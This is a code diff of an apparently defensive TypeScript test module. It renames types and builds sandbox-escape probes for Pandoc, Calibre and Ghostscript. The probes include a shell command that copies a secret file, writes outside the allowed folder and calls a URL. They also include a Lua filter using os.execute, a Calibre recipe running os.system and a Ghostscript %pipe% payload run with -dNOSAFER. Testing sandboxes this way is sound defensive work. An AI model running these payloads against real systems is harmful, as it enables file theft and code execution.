@@ -5,7 +5,7 @@ import { document, image } from './fixtures.ts';
 import { linkingDocument } from './linkingOffice.ts';
 
 /** Targets that a program is tempted to use, and must not reach. */
-export interface Prey {
+export interface AttackTargets {
   /** The path of a secret file, without its extension. For each program, there is a variant that it can read. */
   readonly stem: string;
   /** A path where no file exists. */
@@ -19,13 +19,13 @@ export interface ProgramAttack {
   readonly name: string;
   readonly program: string;
   /** Writes the files into the start folder, and returns the arguments of each run. */
-  readonly runs: (home: string, prey: Prey) => readonly (readonly string[])[];
+  readonly runs: (home: string, targets: AttackTargets) => readonly (readonly string[])[];
 }
 
 export const secret = 'the secret of this computer';
 
 /** Creates the files to steal. */
-export function layPrey({ stem }: Prey): void {
+export function createAttackTargets({ stem }: AttackTargets): void {
   writeFileSync(`${stem}.txt`, secret);
   writeFileSync(`${stem}.png`, readFileSync(image('alpha.png')));
   writeFileSync(`${stem}.wav`, wavOf(Buffer.from(secret.padEnd(1000, '.'))));
@@ -34,7 +34,7 @@ export function layPrey({ stem }: Prey): void {
 const found = (name: string): string => findOnPath(name) ?? '';
 
 /** A shell command that attacks the targets. */
-const raid = ({ stem, outside, url }: Prey): string =>
+const raid = ({ stem, outside, url }: AttackTargets): string =>
   `cat '${stem}.txt' >stolen; echo written >'${outside}'; /usr/bin/python3 -c "import urllib.request; urllib.request.urlopen('${url}/raid', timeout=5)"`;
 
 export const programAttacks: readonly ProgramAttack[] = [
@@ -76,10 +76,10 @@ export const programAttacks: readonly ProgramAttack[] = [
   {
     name: 'Pandoc',
     program: found('pandoc'),
-    runs: (home, prey) => {
+    runs: (home, targets) => {
       const [text, filter] = [path.join(home, 'a.rst'), path.join(home, 'filter.lua')];
-      writeFileSync(text, `a\n\n.. include:: ${prey.stem}.txt\n`);
-      writeFileSync(filter, `os.execute(${JSON.stringify(raid(prey))})`);
+      writeFileSync(text, `a\n\n.. include:: ${targets.stem}.txt\n`);
+      writeFileSync(filter, `os.execute(${JSON.stringify(raid(targets))})`);
       return [
         ['--from=rst', '--to=plain', '--output=included.txt', text],
         [`--lua-filter=${filter}`, '--from=rst', '--to=plain', '--output=filtered.txt', text],
@@ -89,18 +89,18 @@ export const programAttacks: readonly ProgramAttack[] = [
   {
     name: 'Calibre',
     program: found('ebook-convert'),
-    runs: (home, prey) => {
+    runs: (home, targets) => {
       const recipe = path.join(home, 'a.recipe');
-      writeFileSync(recipe, `import os\nos.system(${JSON.stringify(raid(prey))})\nos._exit(0)\n`);
+      writeFileSync(recipe, `import os\nos.system(${JSON.stringify(raid(targets))})\nos._exit(0)\n`);
       return [[recipe, path.join(home, 'a.epub')]];
     },
   },
   {
     name: 'Ghostscript',
     program: found('gs'),
-    runs: (home, prey) => {
+    runs: (home, targets) => {
       const page = path.join(home, 'a.ps');
-      const command = raid(prey).replaceAll(/[()\\]/g, String.raw`\$&`);
+      const command = raid(targets).replaceAll(/[()\\]/g, String.raw`\$&`);
       writeFileSync(page, `%!\n(%pipe%${command}) (w) file closefile\nshowpage\n`);
       return [['-dNOSAFER', '-dBATCH', '-dNOPAUSE', '-q', '-sDEVICE=pdfwrite', '-sOutputFile=a.pdf', page]];
     },
